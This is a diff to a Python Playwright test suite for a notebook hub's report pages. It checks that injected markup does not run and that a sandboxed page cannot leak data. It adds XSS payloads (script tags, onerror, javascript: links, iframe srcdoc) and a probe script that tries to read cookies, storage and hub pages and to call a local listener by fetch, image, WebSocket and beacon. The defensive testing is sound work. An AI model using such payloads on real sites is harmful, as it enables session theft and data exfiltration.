@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import json
+import threading
 from collections.abc import Callable, Iterator
-from contextlib import AbstractContextManager
+from contextlib import AbstractContextManager, contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from types import ModuleType, SimpleNamespace
 
@@ -15,6 +17,7 @@ from serving import PostgresServer, with_store
 from pipeline.hub.accounts import Role
 from pipeline.project.folder import open_project
 from pipeline.project.settings import write_settings
+from pipeline.reports.index import write_site
 from pipeline.stages.assign import assign_project
 from pipeline.store import open_project_store
 
@@ -24,6 +27,37 @@ pytestmark = [pytest.mark.hub, pytest.mark.browser, pytest.mark.slow, pytest.mar
 NASTY = "<img src=x onerror=window.pwned=1>"
 EVA = f"eva {NASTY}"
 RESEARCHER = "maria"
+#: What somebody might manage to bring into a report; each leaves a mark if it runs.
+HOSTILE = f"""<h1>Findings</h1>{NASTY}<script>window.pwned = 1</script>
+<script src="data:text/javascript,pwned=1"></script>
+<script type="module">window.pwned = 1</script><svg onload="window.pwned=1"></svg>
+<a href="javascript:window.pwned=1">a link</a><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>"""
+#: What a script could try if it ran in a report after all: read as its reader, and tell somebody.
+AS_A_SCRIPT = """async ([outside, others]) => {
+  const got = [];
+  const attempt = async (name, run) => { try { if (await run()) got.push(name); } catch {} };
+  for (const url of others)
+    for (const how of [{}, {credentials: 'include'}, {mode: 'no-cors', credentials: 'include'}])
+      await attempt(url, async () => (await (await fetch(url, how)).text()).length >= 0);
+  await attempt('cookie', () => document.cookie !== undefined);
+  await attempt('storage', () => localStorage.length >= 0);
+  await attempt('told by fetch', () => fetch(outside + '/fetch', {mode: 'no-cors'}));
+  const heard = (kind, given) => new Promise((done) => {
+    const element = Object.assign(document.createElement(kind), given);
+    Object.assign(element, {onload: () => done(true), onerror: () => done(false)});
+    document.body.append(element);
+  });
+  await attempt('told by picture', () => heard('img', {src: outside + '/picture.png'}));
+  await attempt('a picture of the hub', () => heard('img', {src: '/hub/logo'}));
+  await attempt('script', () => heard('script', {src: outside + '/script.js'}));
+  await attempt('style', () => heard('link', {rel: 'stylesheet', href: outside + '/s.css'}));
+  await attempt('socket', () => new Promise((done) => {
+    const socket = new WebSocket(outside.replace('http', 'ws'));
+    Object.assign(socket, {onopen: () => done(true), onerror: () => done(false)});
+  }));
+  try { navigator.sendBeacon(outside + '/beacon', 'x'); } catch {}
+  return got;
+}"""
 AN_HOUR_FAST = """
 const True = Date;
 window.Date = class extends True {
@@ -52,8 +86,10 @@ def place(
     write_settings(settings.with_changes("project", name=NASTY), project.root / "mlf.toml")
     project = open_project(project.root)
     assign_project(project, names, 2)
-    project.reports_dir.mkdir(exist_ok=True)
-    (project.reports_dir / "findings.html").write_text(f"<h1>{NASTY}</h1><script>window.pwned = 1</script>")
+    write_site(project)
+    page = (project.reports_dir / "progress.html").read_text()
+    (project.reports_dir / "findings.html").write_text(page.replace("<h1>Progress</h1>", HOSTILE))
+    write_site(project)  # so that the other pages link it
     people = {name: [Role.ANNOTATORS] for name in names} | {RESEARCHER: [Role.RESEARCHERS], "tom": [Role.REVIEWERS]}
     with hub_benchmark.running_hub(project, people, folder / "hub", proxy) as hub:
         yield SimpleNamespace(hub=hub, project=project, disk=small_disk)
@@ -87,6 +123,28 @@ def tick(page: Page, number: int) -> None:
 
 def expect_saved(page: Page, word: str) -> None:
     expect(page.locator('[data-mlf="annotator"]')).to_have_attribute("data-saved", word, timeout=60_000)
+
+
+@contextmanager
+def web_server(heard: list[str]) -> Iterator[str]:
+    """Serve anything to anybody, and note what was asked for; yield its address."""
+
+    class Ear(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            heard.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        do_POST = do_GET  # noqa: N815 - the library's names
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Ear)
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+    thread.join()
+    server.server_close()
 
 
 def kept_votes(place: SimpleNamespace) -> list[str]:
@@ -187,14 +245,6 @@ def test_the_board_is_live_for_a_researcher_and_names_do_not_run(
     browser: Browser, eva: Page, place: SimpleNamespace
 ) -> None:
     page = log_in(browser, place, RESEARCHER)
-    page.get_by_text("progress.ipynb").first.dblclick()
-    page.locator(".jp-Notebook").wait_for()
-    page.get_by_text("| Idle").wait_for()  # a cell run before the kernel answers is lost
-    for number in (0, 1):
-        cell = page.locator(".jp-Notebook .jp-CodeCell").nth(number)
-        cell.locator(".jp-InputPrompt").click()
-        page.keyboard.press("Shift+Enter")
-        expect(cell.locator(".jp-InputPrompt")).to_have_text(f"[{number + 1}]:", timeout=60_000)
     board = page.locator('[data-mlf="board"]')
     row = board.get_by_role("row").filter(has_text=f"eva {NASTY}")
     row.wait_for()
@@ -210,12 +260,68 @@ def test_the_board_is_live_for_a_researcher_and_names_do_not_run(
     page.context.close()
 
 
-def test_a_reviewer_reads_reports_in_which_nothing_runs(browser: Browser, place: SimpleNamespace) -> None:
-    page = log_in(browser, place, "tom")
-    page.get_by_role("link", name="findings").click()
-    expect(page.get_by_role("heading")).to_be_visible()
-    assert nothing_ran(page)
-    page.context.close()
+@pytest.fixture(scope="module")
+def tom(browser: Browser, place: SimpleNamespace) -> Page:
+    """Return the page of a reviewer who has logged in, and sees which reports there are."""
+    return log_in(browser, place, "tom", accept_downloads=True)
+
+
+def test_a_reviewer_reads_reports_in_which_nothing_runs_but_the_sites_own_script(
+    tom: Page, place: SimpleNamespace
+) -> None:
+    tom.get_by_role("link", name="findings").click()
+    expect(tom.get_by_role("heading", name="Findings")).to_be_visible()
+    expect(tom.get_by_role("button", name="Download CSV").first).to_be_visible()
+    assert nothing_ran(tom)
+
+
+def test_in_the_hub_tables_of_a_report_sort_filter_and_download(tom: Page, place: SimpleNamespace) -> None:
+    tom.goto(f"{place.hub.url}services/mlf/reports/progress.html")
+    press = "selector => document.querySelector(selector).click()"
+    names = tom.locator("tbody tr > :first-child")
+    tom.evaluate(press, "thead .mlf-sort")
+    expect(names).to_have_text([EVA, "ben"])
+    tom.evaluate(press, "thead .mlf-sort")
+    expect(names).to_have_text(["ben", EVA])
+    tom.evaluate(
+        "() => { const box = document.querySelector('input[type=search]');"
+        " box.value = 'ben'; box.dispatchEvent(new Event('input')); }"
+    )
+    expect(tom.locator("tbody tr:visible")).to_have_count(1)
+    with tom.expect_download() as started:
+        tom.evaluate(press, ".mlf-tools button")
+    assert Path(started.value.path()).read_text(encoding="utf-8-sig").splitlines()[1].startswith("ben,")
+
+
+def test_in_the_hub_the_explorer_filters_and_shows_images(tom: Page, place: SimpleNamespace) -> None:
+    tom.get_by_role("link", name="Explorer").click()
+    expect(tom.locator("[data-mlf=site] [role=status]")).to_have_text("12 images")
+    tile = tom.locator(".mlf-site-thumbnail").first
+    sprite = tile.evaluate("tile => getComputedStyle(tile).backgroundImage.slice(5, -2)")
+    picture = "async (src) => { const i = Object.assign(new Image(), {src}); await i.decode(); return i.width; }"
+    assert tom.evaluate(picture, sprite) == 10 * 128
+    # Without the page, nobody learns the path of its files; with it, they end at the explorer's file and thumbnails.
+    assert tom.request.get(sprite.replace("sprites/0000.jpg", "index.html")).status == 404
+    tom.get_by_label("Name contains").fill("no image is called so")
+    expect(tom.locator("[data-mlf=site] [role=status]")).to_have_text("0 images")
+
+
+def test_a_script_that_ran_in_a_report_after_all_could_read_nothing_and_tell_nobody(
+    tom: Page, place: SimpleNamespace
+) -> None:
+    heard: list[str] = []
+    with web_server(heard) as outside:
+        others = [f"{place.hub.url}{path}" for path in ("hub/api/user", "hub/home", "services/mlf/reports/index.html")]
+        for name in ("progress", "explorer"):
+            tom.goto(f"{place.hub.url}services/mlf/reports/{name}.html")
+            assert tom.evaluate(AS_A_SCRIPT, [outside, others]) == [], name
+        assert heard == []
+        tom.goto(outside)  # the same script on a page of no sandbox
+        assert {"told by fetch", "cookie"} <= set(tom.evaluate(AS_A_SCRIPT, [outside, [outside]]))
+        assert "/picture.png" in heard
+    tom.goto(f"{place.hub.url}services/mlf/reports/findings.html")
+    tom.evaluate("() => document.querySelector('a[href^=javascript]').click()")
+    assert nothing_ran(tom)
 
 
 def test_nothing_in_the_services_log_is_markup(place: SimpleNamespace) -> None:
